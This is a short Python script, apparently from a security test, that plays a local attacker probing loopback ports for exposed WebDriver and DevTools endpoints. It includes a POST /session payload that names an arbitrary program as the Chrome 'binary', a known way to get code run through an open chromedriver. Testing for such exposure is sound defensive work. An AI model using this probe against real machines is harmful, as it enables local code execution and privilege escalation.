"""What a local attacker runs: probe loopback ports for WebDriver and DevTools endpoints.

Standard library only, so it runs as another user (``setpriv --reuid 65534``) under the
system Python. Usage: ``python3 attacker.py MARKER_SCRIPT PORT [PORT...]``. For each port
on 127.0.0.1 and ::1 it tries, as chromedriver's and Chromium's users would:
GET /status, /sessions, /json/version, /json/list, and POST /session asking for a
"browser" that is ``MARKER_SCRIPT`` (any program). Prints one JSON object: for each
``host:port`` the endpoints that answered like WebDriver or DevTools.
"""

import http.client
import json
import sys

SIGNS = ("sessionId", "\"ready\"", "webSocketDebuggerUrl", "Browser", "\"build\"", "\"value\"")


def probe(host: str, port: int, marker_script: str) -> list[str]:
    hits = []
    requests = [("GET", p, None) for p in ("/status", "/sessions", "/json/version", "/json/list")]
    body = json.dumps({"capabilities": {"alwaysMatch": {
        "browserName": "chrome", "goog:chromeOptions": {"binary": marker_script, "args": ["--headless"]}}}})
    requests.append(("POST", "/session", body))
    for method, path, data in requests:
        conn = http.client.HTTPConnection(host, port, timeout=5)
        try:
            conn.request(method, path, body=data, headers={"Content-Type": "application/json"})
            text = conn.getresponse().read(4096).decode("utf-8", "replace")
        except (OSError, http.client.HTTPException):
            continue
        finally:
            conn.close()
        if any(sign in text for sign in SIGNS):
            hits.append(f"{method} {path}: {text[:120]}")
    return hits


def main(argv):
    marker_script, ports = argv[1], [int(p) for p in argv[2:]]
    found = {}
    for port in ports:
        for host in ("127.0.0.1", "::1"):
            hits = probe(host, port, marker_script)
            if hits:
                found[f"{host}:{port}"] = hits
    print(json.dumps(found))


if __name__ == "__main__":
    main(sys.argv)
